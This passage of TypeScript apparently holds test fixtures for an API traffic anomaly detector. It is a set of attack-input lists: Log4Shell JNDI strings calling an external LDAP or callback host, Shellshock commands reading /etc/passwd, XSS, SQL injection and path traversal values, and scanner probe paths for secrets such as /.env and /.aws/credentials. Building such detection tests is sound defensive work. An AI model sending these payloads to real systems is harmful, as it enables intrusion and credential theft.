  '${jndi:ldap://198.51.100.77:1389/a}',
  '${jndi:${lower:l}${lower:d}ap://x.oast.example/exp}',
  '() { :; }; /bin/bash -c "id; uname -a"',
  '() { :;}; echo; /bin/cat /etc/passwd',
  'javascript:alert(document.domain)',
];

/** Paths a scanner probes; none matches an operation (APIM logs operationId ""). */
export const PROBE_PATHS: readonly string[] = [
  '/.env', '/.git/config', '/.git/HEAD', '/.aws/credentials', '/.DS_Store', '/admin', '/admin/login',
  '/administrator/index.php', '/wp-login.php', '/wp-admin/install.php', '/xmlrpc.php', '/phpinfo.php',
  '/server-status', '/actuator', '/actuator/env', '/actuator/heapdump', '/console', '/manager/html',
  '/solr/admin/info/system', '/graphql', '/api/v1/users', '/api/internal/metrics', '/swagger.json',
  '/openapi.json', '/v2/api-docs', '/config.json', '/backup.zip', '/db.sql', '/debug/vars', '/metrics',
  '/shop/v1/admin/users', '/shop/v1/internal/debug', '/shop/v1/products/export', '/shop/v1/users/all',
  '/shop/v1/orders/export.csv', '/shop/v2/products', '/shop/v1/.env', '/payments/v2/admin',
  '/payments/v2/payments/export', '/payments/v2/internal/keys', '/weather/admin', '/echo/admin',
];

/** Query parameter names the baseline never sends (for API_UnseenParam). */
export const UNSEEN_PARAM_NAMES: readonly string[] = [
  'debug', 'isAdmin', 'role', 'includeDeleted', 'internal', 'api_key', 'redirect_url', 'callback', 'fields', 'override',
];

/** Values of a type an integer parameter never had (for API_UnseenParamType). */
export const TYPE_CONFUSION_VALUES: readonly string[] = [
  "1' OR '1'='1",
  "1 UNION SELECT username,password FROM users--",
  "1;WAITFOR DELAY '0:0:5'--",
  "1' AND SLEEP(5)#",
  "(SELECT 1 FROM dual)",
  "-1 OR 1=1",
  '../../etc/passwd',
];
